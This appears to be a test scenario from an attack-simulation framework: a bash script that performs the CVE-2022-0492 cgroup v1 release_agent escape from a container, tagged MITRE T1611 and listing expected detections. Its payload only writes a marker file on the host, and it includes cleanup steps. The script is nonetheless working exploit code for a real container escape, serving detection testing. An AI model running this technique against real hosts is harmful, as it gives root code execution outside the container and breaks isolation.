#!/bin/bash
# desc: the cgroup v1 release_agent escape (CVE-2022-0492) from a container, on a private named hierarchy: mount cgroup, notify_on_release, release_agent pointing at a payload in the container's upper layer, an emptied cgroup makes the kernel run it on the host
# mitre: T1611
# expect: host_filesystem_mounted_in_container, cgroup_release_agent_written
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/container.sh"

container_create
marker=$ATTACK_TMP/escaped
# A hierarchy of our own (name=, no controllers): its release_agent is
# nobody else's. The payload only writes a marker file on the host.
ct_sh '
set -e
mkdir -p /var/tmp/cg
mount -t cgroup -o none,name=tpatk'"${ATTACK_ID}"' cgroup /var/tmp/cg
trap "rmdir /var/tmp/cg/x 2>/dev/null; umount /var/tmp/cg" EXIT
mkdir -p /var/tmp/cg/x
echo 1 > /var/tmp/cg/x/notify_on_release
upper=$(sed -n "s/.*upperdir=\([^,]*\).*/\1/p" /proc/self/mountinfo | head -1)
printf "#!/bin/sh\nid > '"$marker"'\n" > /payload && chmod +x /payload
echo "$upper/payload" > /var/tmp/cg/release_agent
sh -c "echo \$\$ > /var/tmp/cg/x/cgroup.procs"
sleep 0.5'
undo "rm -f '$marker'"
# The container's umount leaves the hierarchy alive (the kernel kills a
# named hierarchy when its last mount goes with no cgroup in it, which
# the container's unmount did not meet): mount it by name once more on the
# host and unmount it, so that the run leaves no hierarchy behind.
undo "d=\$(mktemp -d) && mount -t cgroup -o none,name=tpatk${ATTACK_ID} cgroup \$d && umount \$d; rmdir \$d"
